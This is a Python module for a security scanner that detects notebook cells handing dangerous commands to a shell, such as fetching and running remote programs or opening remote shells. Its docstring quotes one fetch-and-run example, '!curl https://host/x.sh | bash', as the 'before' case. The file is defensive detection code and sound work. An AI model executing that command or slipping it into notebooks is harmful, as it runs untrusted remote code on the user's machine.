"""A notebook hands dangerous commands to a shell.

Lines that start with ``!`` and cells that start with ``%%bash`` leave Python and run in a
shell. Installing packages and fetching data is what notebooks do; fetching programs and
running them, remote shells and stolen credentials are not.

Before: ``!curl https://host/x.sh | bash``.
After: ``%pip install package==1.2.3``.

Sources: IPython documentation, shell assignment and magics; MITRE ATT&CK T1059; CWE-78.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from modelkeep.core import Finding, Rule
from modelkeep.formats.notebook import Notebook
from modelkeep.scan.interface import Context, Detector
from modelkeep.scan.shell_policy import judge

RULE: Final = Rule(
    id="NTB001",
    name="notebook-shell-command",
    summary="A cell of the notebook hands a dangerous command to a shell.",
    remedy="Do not run the notebook; remove the cell after reading it.",
    topic="artifact.malicious_code",
    tags=("CWE-78", "CWE-494"),
)
_SHOWN: Final = 100


def run(context: Context) -> Iterator[Finding]:
    """Yield one finding per kind of dangerous command in each cell."""
    if not isinstance(context.document, Notebook):
        return
    for cell, command in context.document.shell:
        for severity, why, line in judge(command):
            yield context.finding(
                RULE,
                severity,
                f"cell {cell} {why}: {line[:_SHOWN]!r}",
                evidence={"cell": str(cell), "why": why},
            )


DETECTOR: Final = Detector(RULE, frozenset({"notebook"}), run)
